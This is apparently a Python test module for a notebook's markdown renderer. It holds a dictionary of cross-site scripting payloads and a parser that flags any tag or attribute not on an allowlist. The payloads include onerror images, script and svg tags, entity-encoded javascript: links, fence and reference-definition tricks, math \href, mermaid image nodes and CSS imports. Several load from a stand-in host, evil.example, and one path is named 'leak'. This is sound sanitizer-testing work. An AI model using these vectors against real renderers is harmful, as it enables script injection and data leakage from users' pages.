"""Answers that attack the page in which a notebook shows them, and what a page may contain."""

from __future__ import annotations

from html.parser import HTMLParser

RUN = "document.title='XSS'"
IMG = f'<img src=x onerror="{RUN}">'
FAR = "https://evil.example"
VECTORS = {
    "image": f"Soup {IMG} done",
    "script": f"<script>{RUN}</script>",
    "svg": f"<svg/onload={RUN}><svg><script>{RUN}</script></svg>",
    "link": f"[open](javascript:{RUN.replace(' ', '')})",
    "entity link": "[open](&#106;avascript:document.title='XSS')",
    "named link": f"[open][r] and ![pic][p]\n\n[r]: javascript:{RUN}\n[p]: {FAR}/p.png",
    "name with a backtick": f"> [a`]: javascript:{RUN}//`\n\n- [b`\n]: javascript:{RUN}//`\n\n"
    "[open][a`] [open][b`]",
    "fence of spaces": f"foo\n    ~~~\n\n[a\\]b]: javascript:{RUN}\n    ~~~\n\n[open][a\\]b]",
    "fence of a tab": f"\t```\n\n[a\n]: javascript:{RUN}\n\t```\n\n[open][a ]",
    "name before a fence": f"[a\n    ~~~\nb]:\njavascript:{RUN}\n    ~~~\n\n[open][a ~~~ b]",
    "autolink": f"<javascript:{RUN}>",
    "remote image": f"![secret]({FAR}/leak?what) ![]({FAR}/2)",
    "fence": f"- a\n\n        ```\n```\n{IMG}\n```\n<iframe srcdoc='<script>'>\n",
    "span": f"`` ` {IMG} `` ``` <b onclick={RUN}>\n\n` <script>{RUN}</script> `",
    "math": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\style{{background:url({FAR}/s)}}{{x}}$$\n\n"
    f"$$\n{IMG}\n$$\n",
    "math of entities": f"&#36;&#92;href{{javascript:{RUN}}}{{open}}&#36; "
    f"&dollar;&#x5c;h&#114;ef&lbrace;javascript:{RUN}&#125;{{open}}&#36; "
    f"&#36;&bsol;style{{background:url({FAR}/s)}}{{x}}&#36; `&#36;&#92;href{{javascript:1}}{{x}}`",
    "diagram": f'```mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n```',
    "diagram after a quote": f'> ```\n~~~mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n~~~',
    "diagram after a list": f'*  ```\n~~~ mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n~~~',
    "diagram in no fence": "foo\n    ~~~\n\n"
    f'```&#109;ermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n```\n',
    "diagram in a definition": f"c```\n: ```mermaid\n A@{{ img: '{FAR}/m.png' }}\n```\n\n"
    f'a\n: ~~~mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n~~~\n'
    f'\nb\n: ```mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n```\n',
    "style": f"<style>@import '{FAR}/s.css'</style><link rel=stylesheet href={FAR}>",
    "table": f"| a | b |\n|---|---|\n| `<img src=x` | onerror={RUN}> |\n| <video src={FAR}> ||",
}
PLAIN = (
    "a blockquote br code del dd div dl dt em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong sub "
    "table tbody td th thead tr ul"
).split()


class Page(HTMLParser):
    """Finds what could act in a page.

    Attributes:
        wrong: The elements and addresses that do not belong to a text.
        text: What a reader sees.
    """

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in PLAIN:
            self.wrong.append(tag)
        for name, value in attrs:
            safe = (value or "").lower().startswith(("http://", "https://", "mailto:", "#"))
            if name not in ("class", "start", "title", "style", "id") and not (
                name == "href" and safe
            ):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")

    def handle_data(self, data: str) -> None:
        self.text += data
